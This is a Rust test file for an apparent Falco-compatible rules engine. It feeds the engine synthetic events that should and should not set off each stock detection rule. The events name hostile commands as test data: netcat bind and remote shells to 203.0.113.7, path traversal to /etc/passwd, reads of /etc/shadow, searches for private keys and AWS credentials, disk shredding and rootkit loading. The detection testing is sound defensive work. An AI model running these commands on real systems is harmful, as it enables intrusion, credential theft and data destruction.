//! Each of Falco's stock rules, where they are at hand: an event that sets it off, with every field of its output, and an
//! event that nearly does.

#![allow(clippy::unwrap_used)]

mod support;

use lanner_engine::{Alert, AppendOutput, FieldValue, Matching, RulesFile, Ruleset, Settings, Verdict, load};
use lanner_schema::tier::Tier;
use std::path::PathBuf;
use std::sync::{LazyLock, Mutex, PoisonError};
use support::{Built, container, host};

const SECOND: u64 = 1_000_000_000;
const O_RDONLY: i64 = 0;
const O_WRONLY: i64 = 1;
const O_CREAT: i64 = 0o100;
const O_TRUNC: i64 = 0o1000;
const O_APPEND: i64 = 0o2000;
const AF_INET: i64 = 2;
const AF_PACKET: i64 = 17;
const ENOENT: i64 = 2;
const EINPROGRESS: i64 = 115;
const CAP_DAC_OVERRIDE: u64 = 1 << 1;
const CAP_SYS_MODULE: u64 = 1 << 16;
const CAP_SYS_ADMIN: u64 = 1 << 21;
const EXE_UPPER_LAYER: u32 = 2;
const EXE_FROM_MEMFD: u32 = 4;
const EXE_LOWER_LAYER: u32 = 8;

/// The stock rules, of which the first that matches alerts, and of which every one does.
struct Stock {
    first: Ruleset,
    all: Ruleset,
}

/// Runs `look` on the stock rules, or prints why they are not at hand.
fn stock_rules(look: impl FnOnce(&mut Stock)) {
    static STOCK: LazyLock<Result<Mutex<Stock>, String>> = LazyLock::new(load_stock_rules);
    match &*STOCK {
        // What a failed test leaves behind is as good as new: rulesets only count.
        Ok(stock) => look(&mut stock.lock().unwrap_or_else(PoisonError::into_inner)),
        Err(reason) => eprintln!("skipped: {reason}"),
    }
}

fn load_stock_rules() -> Result<Mutex<Stock>, String> {
    let default = || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/falco/falco_rules.yaml");
    let path = std::env::var_os("FALCO_RULES").map_or_else(default, PathBuf::from);
    let text = std::fs::read_to_string(&path).map_err(|error| {
        let path = path.display();
        format!("{path}: {error}; set FALCO_RULES to Falco's falco_rules.yaml")
    })?;
    let file = RulesFile {
        name: "falco_rules.yaml".into(),
        text,
    };
    let settings = |rule_matching| Settings {
        rule_matching,
        // As Falco's own configuration has it.
        append_output: vec![AppendOutput {
            suggested_output: true,
            ..AppendOutput::default()
        }],
        ..Settings::default()
    };
    let loaded = |rule_matching| {
        load(std::slice::from_ref(&file), &settings(rule_matching))
            .ruleset
            .unwrap()
    };
    Ok(Mutex::new(Stock {
        first: loaded(Matching::First),
        all: loaded(Matching::All),
    }))
}

fn alerts(ruleset: &mut Ruleset, built: &Built) -> Vec<Alert> {
    let mut alerts = Vec::new();
    built.view(|event| ruleset.evaluate(event, &mut |alert| alerts.push(alert)));
    alerts
}

/// What a host has no value for.
const OF_CONTAINERS: [&str; 5] = [
    "container.image.repository",
    "container.image.tag",
    "k8s.ns.name",
    "k8s.pod.name",
    "container.start_ts",
];

/// The rule, and no other, alerts; its fields have values but for those that are `missing` (and, on a host, what only
/// containers have).
#[track_caller]
fn sets_off(rule: &str, built: &Built, missing: &[&str]) {
    let mut found = None;
    stock_rules(|stock| found = Some(alerts(&mut stock.first, built)));
    let Some(alerts) = found else { return };
    let names: Vec<&str> = alerts.iter().map(|alert| &*alert.rule).collect();
    assert_eq!(names, [rule]);
    let fields = &alerts[0].fields;
    let on_host = fields
        .iter()
        .any(|(name, value)| &**name == "container.id" && *value == FieldValue::Text("host".into()));
    let unknown: Vec<&str> = fields
        .iter()
        .filter(|(_, value)| *value == FieldValue::Missing || *value == FieldValue::Text("<NA>".into()))
        .map(|(name, _)| &**name)
        .filter(|name| !(on_host && OF_CONTAINERS.contains(name)))
        .collect();
    assert_eq!(unknown, missing, "{}", alerts[0].line);
    let empty: Vec<&str> = fields
        .iter()
        .filter(|(name, value)| *value == FieldValue::Text("".into()) && &**name != "proc.args")
        .map(|(name, _)| &**name)
        .collect();
    assert!(empty.is_empty(), "{empty:?} empty: {}", alerts[0].line);
    for part in ["process=", "user=root", "command=", "evt_type=", "container_id="] {
        // The one rule about users is set off by another one.
        let part = if rule == "System user interactive" && part == "user=root" {
            "user=www-data"
        } else {
            part
        };
        assert!(alerts[0].message.contains(part), "{part}: {}", alerts[0].message);
    }
}

/// The rule does not alert, and of the others only these do.
#[track_caller]
fn leaves_alone(rule: &str, built: &Built, others: &[&str]) {
    let mut found = None;
    stock_rules(|stock| {
        assert!(stock.all.rules().any(|known| known.name() == rule));
        found = Some(alerts(&mut stock.all, built));
    });
    let Some(alerts) = found else { return };
    let names: Vec<&str> = alerts.iter().map(|alert| &*alert.rule).collect();
    assert_eq!(names, others);
}

#[test]
fn directory_traversal_monitored_file_read() {
    let rule = "Directory traversal monitored file read";
    let name = "../../../../etc/passwd";
    let read = |parent: &str, name: &str, result: i64| {
        container("httpd -k start")
            .child_of(parent)
            .opens_by_name(name, "/etc/passwd", result)
    };
    sets_off(rule, &read("httpd", name, 5), &["proc.aname[3]", "proc.aname[4]"]);
    // Attempts count too.
    sets_off(
        rule,
        &read("httpd", name, -ENOENT),
        &["proc.aname[3]", "proc.aname[4]"],
    );
    leaves_alone(rule, &read("bash", name, 5), &[]);
    leaves_alone(rule, &read("httpd", "/etc/passwd", 5), &[]);
    leaves_alone(rule, &read("httpd", "../etc/passwd", 5), &[]);
}

#[test]
fn read_sensitive_file_trusted_after_startup() {
    let rule = "Read sensitive file trusted after startup";
    let read = |command: &str, age: u64| container(command).age(age).opens("/etc/shadow", O_RDONLY);
    sets_off(
        rule,
        &read("nginx -g x", 60 * SECOND),
        &["proc.aname[3]", "proc.aname[4]"],
    );
    leaves_alone(
        rule,
        &read("nginx -g x", 2 * SECOND),
        &["Read sensitive file untrusted"],
    );
    leaves_alone(rule, &read("sshd -D", 60 * SECOND), &[]);
}

#[test]
fn read_sensitive_file_untrusted() {
    let rule = "Read sensitive file untrusted";
    let shadow = "/etc/shadow";
    let missing = ["proc.aname[3]", "proc.aname[4]"];
    sets_off(rule, &host("cat /etc/shadow").opens(shadow, O_RDONLY), &missing);
    sets_off(
        rule,
        &container("cat x").opens("/etc/pam.d/sshd", O_RDONLY),
        &missing,
    );
    leaves_alone(rule, &host("su -").opens(shadow, O_RDONLY), &[]);
    leaves_alone(
        rule,
        &host("cp a b").child_of("passwd").opens(shadow, O_RDONLY),
        &[],
    );
    leaves_alone(rule, &host("cat x").opens(shadow, O_WRONLY), &[]);
    leaves_alone(rule, &host("cat x").opens_as(shadow, O_RDONLY, -13), &[]);
    leaves_alone(rule, &host("cat x").opens("/etc/hosts", O_RDONLY), &[]);
}

#[test]
fn run_shell_untrusted() {
    let rule = "Run shell untrusted";
    let missing = [
        "proc.aname[3]",
        "proc.aname[4]",
        "proc.aname[5]",
        "proc.aname[6]",
        "proc.aname[7]",
    ];
    let spawned = |command: &str, parent: &str| container(command).child_of(parent).starts();
    sets_off(rule, &spawned("sh -c id", "nginx -g x"), &missing);
    sets_off(rule, &spawned("bash -c id", "java -cp x kafka.Kafka"), &missing);
    leaves_alone(rule, &spawned("sh -c uname -a 2>&1", "nginx -g x"), &[]);
    leaves_alone(rule, &spawned("sh -c curl localhost", "consul agent"), &[]);
    leaves_alone(rule, &spawned("sh -c id", "bash"), &[]);
    leaves_alone(rule, &spawned("id", "nginx -g x"), &[]);
}

#[test]
fn system_user_interactive() {
    let rule = "System user interactive";
    sets_off(
        rule,
        &host("id -u").run_by("www-data").on_terminal().starts(),
        &[],
    );
    leaves_alone(rule, &host("id -u").run_by("ann").on_terminal().starts(), &[]);
    leaves_alone(rule, &host("sshd -D").run_by("sshd").starts(), &[]);
}

#[test]
fn terminal_shell_in_container() {
    let rule = "Terminal shell in container";
    sets_off(
        rule,
        &container("bash -i").child_of("runc").on_terminal().starts(),
        &[],
    );
    leaves_alone(rule, &container("bash -i").child_of("runc").starts(), &[]);
    leaves_alone(
        rule,
        &container("ls -l").child_of("runc").on_terminal().starts(),
        &[],
    );
    leaves_alone(
        rule,
        &container("bash -i").child_of("make").on_terminal().starts(),
        &[],
    );
    leaves_alone(
        rule,
        &host("bash -i").child_of("runc").on_terminal().starts(),
        &[],
    );
}

#[test]
fn contact_k8s_api_server_from_container() {
    let rule = "Contact K8S API Server From Container";
    let name = "kubernetes.default.svc.cluster.local";
    let curl = || container("curl -k https").knows(name, "10.96.0.1");
    sets_off(rule, &curl().connects("10.96.0.1", 443, 0), &[]);
    leaves_alone(rule, &curl().connects("10.96.0.2", 443, 0), &[]);
    leaves_alone(
        rule,
        &curl().in_namespace("kube-system").connects("10.96.0.1", 443, 0),
        &[],
    );
    let outside = host("curl -k https").knows(name, "10.96.0.1");
    leaves_alone(rule, &outside.connects("10.96.0.1", 443, 0), &[]);
}

#[test]
fn netcat_remote_code_execution_in_container() {
    let rule = "Netcat Remote Code Execution in Container";
    sets_off(rule, &container("nc -l -p 4444 -e /bin/sh").starts(), &[]);
    sets_off(rule, &container("ncat --sh-exec id 203.0.113.7 1").starts(), &[]);
    leaves_alone(rule, &container("nc -l -p 4444").starts(), &[]);
    leaves_alone(rule, &container("ncat 203.0.113.7 1").starts(), &[]);
    leaves_alone(rule, &host("nc -l -p 4444 -e /bin/sh").starts(), &[]);
}

#[test]
fn search_private_keys_or_passwords() {
    let rule = "Search Private Keys or Passwords";
    sets_off(rule, &host("grep -r BEGIN RSA PRIVATE /").starts(), &[]);
    sets_off(rule, &container("find / -name id_ed25519").starts(), &[]);
    leaves_alone(rule, &host("grep -r BEGIN CERTIFICATE /").starts(), &[]);
    leaves_alone(rule, &container("find / -name id_card").starts(), &[]);
    leaves_alone(rule, &host("cat BEGIN RSA PRIVATE").starts(), &[]);
}

#[test]
fn clear_log_activities() {
    let rule = "Clear Log Activities";
    let truncate = O_WRONLY | O_CREAT | O_TRUNC;
    sets_off(rule, &host("sh -c x").opens("/var/log/auth.log", truncate), &[]);
    sets_off(
        rule,
        &container("sh -c x").opens("/srv/access_log", truncate),
        &[],
    );
    leaves_alone(
        rule,
        &host("sh -c x").opens("/var/log/auth.log", O_WRONLY | O_APPEND),
        &[],
    );
    leaves_alone(rule, &host("sh -c x").opens("/srv/app.log", truncate), &[]);
    let snapshot = "/var/lib/containerd/tmpmounts/m1/var/log/auth.log";
    leaves_alone(rule, &host("containerd").opens(snapshot, truncate), &[]);
}

#[test]
fn remove_bulk_data_from_disk() {
    let rule = "Remove Bulk Data from Disk";
    sets_off(rule, &host("shred -u /dev/sdb").starts(), &["fd.name"]);
    sets_off(rule, &container("mke2fs /dev/sdb").starts(), &["fd.name"]);
    leaves_alone(rule, &host("rm -rf /srv").starts(), &[]);
}

#[test]
fn create_symlink_over_sensitive_files() {
    let rule = "Create Symlink Over Sensitive Files";
    sets_off(rule, &host("ln -s x").symlinks("/etc/shadow", "/tmp/x"), &[]);
    sets_off(rule, &container("ln -s x").symlinks("/etc", "/tmp/x"), &[]);
    leaves_alone(rule, &host("ln -s x").symlinks("/etc/hosts", "/tmp/x"), &[]);
    leaves_alone(rule, &host("ln -s x").symlinks("/tmp/x", "/etc/shadow"), &[]);
    leaves_alone(rule, &host("ln x").links("/etc", "/tmp/x"), &[]);
}

#[test]
fn create_hardlink_over_sensitive_files() {
    let rule = "Create Hardlink Over Sensitive Files";
    sets_off(rule, &host("ln x").links("/etc/shadow", "/tmp/x"), &[]);
    sets_off(rule, &container("ln x").links("/etc/sudoers", "/tmp/x"), &[]);
    leaves_alone(rule, &host("ln x").links("/etc/hosts", "/tmp/x"), &[]);
}

#[test]
fn packet_socket_created_in_container() {
    let rule = "Packet socket created in container";
    // A packet socket has no ends.
    let missing = ["fd.l4proto", "fd.lport", "fd.name", "fd.rport"];
    sets_off(
        rule,
        &container("tcpdump -i eth0").opens_socket(AF_PACKET),
        &missing,
    );
    leaves_alone(rule, &container("curl x").opens_socket(AF_INET), &[]);
    leaves_alone(rule, &host("tcpdump -i eth0").opens_socket(AF_PACKET), &[]);
}

#[test]
fn redirect_stdout_stdin_to_network_connection_in_container() {
    let rule = "Redirect STDOUT/STDIN to Network Connection in Container";
    let missing = ["proc.aname[3]", "proc.aname[4]"];
    for to in 0..=2 {
        sets_off(
            rule,
            &container("sh -i").copies_connection("203.0.113.7", 4444, to),
            &missing,
        );
    }
    sets_off(
        rule,
        &container("sh -i").copies_connection("2001:db8::7", 4444, 0),
        &missing,
    );
    leaves_alone(
        rule,
        &container("sh -i").copies_connection("203.0.113.7", 4444, 9),
        &[],
    );
    leaves_alone(
        rule,
        &host("sh -i").copies_connection("203.0.113.7", 4444, 0),
        &[],
    );
}

#[test]
fn linux_kernel_module_injection_detected() {
    let rule = "Linux Kernel Module Injection Detected";
    let insmod = || container("insmod rootkit.ko");
    sets_off(rule, &insmod().capable_of(CAP_SYS_MODULE).loads_module(), &[]);
    leaves_alone(rule, &insmod().capable_of(CAP_SYS_ADMIN).loads_module(), &[]);
    leaves_alone(
        rule,
        &host("insmod x.ko").capable_of(CAP_SYS_MODULE).loads_module(),
        &[],
    );
}

#[test]
fn debugfs_launched_in_privileged_container() {
    let rule = "Debugfs Launched in Privileged Container";
    sets_off(
        rule,
        &container("debugfs /dev/sda1").privileged(true).starts(),
        &[],
    );
    leaves_alone(
        rule,
        &container("debugfs /dev/sda1").privileged(false).starts(),
        &[],
    );
    leaves_alone(rule, &container("debugfs /dev/sda1").starts(), &[]);
    leaves_alone(
        rule,
        &container("e2fsck /dev/sda1").privileged(true).starts(),
        &[],
    );
}

#[test]
fn detect_release_agent_file_container_escapes() {
    let rule = "Detect release_agent File Container Escapes";
    let file = "/sys/fs/cgroup/rdma/release_agent";
    let sh = |capabilities: u64| container("sh -c x").capable_of(capabilities);
    sets_off(
        rule,
        &sh(CAP_SYS_ADMIN | CAP_DAC_OVERRIDE).opens(file, O_WRONLY),
        &[],
    );
    leaves_alone(rule, &sh(CAP_DAC_OVERRIDE).opens(file, O_WRONLY), &[]);
    leaves_alone(rule, &sh(CAP_SYS_ADMIN).opens(file, O_RDONLY), &[]);
    leaves_alone(
        rule,
        &sh(CAP_SYS_ADMIN).opens("/sys/fs/cgroup/rdma/tasks", O_WRONLY),
        &[],
    );
    leaves_alone(
        rule,
        &host("sh -c x").capable_of(CAP_SYS_ADMIN).opens(file, O_WRONLY),
        &[],
    );
}

#[test]
fn ptrace_attached_to_process() {
    let rule = "PTRACE attached to process";
    // PTRACE_POKETEXT, POKEDATA, SETREGS, ATTACH, SEIZE.
    for request in [4, 5, 13, 16, 0x4206] {
        sets_off(rule, &host("gdb -p 20").traces(request), &[]);
    }
    sets_off(rule, &container("gdb -p 20").traces(16), &[]);
    // PTRACE_CONT, GETREGS.
    for request in [7, 12] {
        leaves_alone(rule, &host("gdb -p 20").traces(request), &[]);
    }
}

#[test]
fn ptrace_anti_debug_attempt() {
    let rule = "PTRACE anti-debug attempt";
    sets_off(rule, &host("malware -x").traces(0), &[]);
    leaves_alone(rule, &host("malware -x").traces(7), &[]);
    leaves_alone(
        rule,
        &host("malware -x").traces(16),
        &["PTRACE attached to process"],
    );
}

#[test]
fn find_aws_credentials() {
    let rule = "Find AWS Credentials";
    sets_off(rule, &host("grep -ri AWS_SECRET_ACCESS_KEY /home").starts(), &[]);
    sets_off(rule, &container("find / -path */.aws/credentials").starts(), &[]);
    leaves_alone(rule, &host("grep -ri secret /home").starts(), &[]);
    leaves_alone(rule, &container("find / -path */.aws/config").starts(), &[]);
}

#[test]
fn execution_from_dev_shm() {
    let rule = "Execution from /dev/shm";
    sets_off(rule, &host("/dev/shm/x -y").starts(), &["fd.name"]);
    sets_off(
        rule,
        &container("./x -y").within("/dev/shm/a/").starts(),
        &["fd.name"],
    );
    sets_off(rule, &container("sh -c /dev/shm/x").starts(), &["fd.name"]);
    sets_off(
        rule,
        &host("python3 ./x.py").within("/dev/shm/").starts(),
        &["fd.name"],
    );
    leaves_alone(rule, &host("/dev/shmx/x -y").starts(), &[]);
    leaves_alone(rule, &container("./x -y").within("/tmp/").starts(), &[]);
    leaves_alone(rule, &host("cat /dev/shm/x").starts(), &[]);
}

#[test]
fn drop_and_execute_new_binary_in_container() {
    let rule = "Drop and execute new binary in container";
    let now = support::NOW;
    let dropped = |flags: u32| {
        container("/tmp/x -y")
            .exec_flags(flags)
            .program_changed(now - 3 * SECOND, now - 4 * SECOND)
    };
    sets_off(rule, &dropped(EXE_UPPER_LAYER).starts(), &[]);
    leaves_alone(rule, &dropped(EXE_LOWER_LAYER).starts(), &[]);
    leaves_alone(rule, &dropped(0).starts(), &[]);
    leaves_alone(rule, &host("/tmp/x").exec_flags(EXE_UPPER_LAYER).starts(), &[]);
}

#[test]
fn disallowed_ssh_connection_non_standard_port() {
    let rule = "Disallowed SSH Connection Non Standard Port";
    let ssh = || host("/usr/bin/ssh -p 443 x");
    sets_off(rule, &ssh().connects("203.0.113.7", 443, 0), &[]);
    sets_off(rule, &ssh().connects("2001:db8::7", 8080, -EINPROGRESS), &[]);
    sets_off(rule, &container("ssh x").connects("203.0.113.7", 4444, 0), &[]);
    leaves_alone(rule, &ssh().connects("203.0.113.7", 22, 0), &[]);
    leaves_alone(rule, &ssh().connects("192.168.1.7", 443, 0), &[]);
    leaves_alone(rule, &ssh().connects("127.0.0.1", 443, 0), &[]);
    leaves_alone(rule, &ssh().connects("203.0.113.7", 443, -111), &[]);
    leaves_alone(rule, &host("curl x").connects("203.0.113.7", 443, 0), &[]);
}

#[test]
fn fileless_execution_via_memfd_create() {
    let rule = "Fileless execution via memfd_create";
    let run =
        |command: &str, parent: &str| host(command).child_of(parent).exec_flags(EXE_FROM_MEMFD).starts();
    sets_off(rule, &run("kworker -x", "python3 x.py"), &[]);
    leaves_alone(rule, &run("runc init", "containerd-shim"), &[]);
    leaves_alone(rule, &run("kworker -x", "runc init"), &[]);
    leaves_alone(rule, &run("memfd:runc_cloned:/proc/self/exe init", "x"), &[]);
    leaves_alone(rule, &host("kworker -x").starts(), &[]);
}

/// The tests above are about every rule there is.
#[test]
fn every_stock_rule_has_its_test() {
    stock_rules(|stock| {
        let tests = include_str!("stock_rules.rs");
        for rule in stock.first.rules() {
            let quoted = format!("let rule = \"{}\";", rule.name());
            assert!(tests.contains(&quoted), "no test of {}", rule.name());
        }
        assert_eq!(stock.first.rules().count(), 25);
    });
}

/// Nothing the rules need is missing altogether: what is partial has reservations, which `lanner coverage` explains.
#[test]
fn no_stock_rule_lacks_a_field_or_an_event() {
    stock_rules(|stock| {
        for rule in stock.first.rules() {
            let coverage = rule.coverage(Tier::SysExit);
            assert_ne!(coverage.verdict, Verdict::Blind, "{}", rule.name());
            assert_eq!(coverage.missing(), None, "{}", rule.name());
        }
    });
}
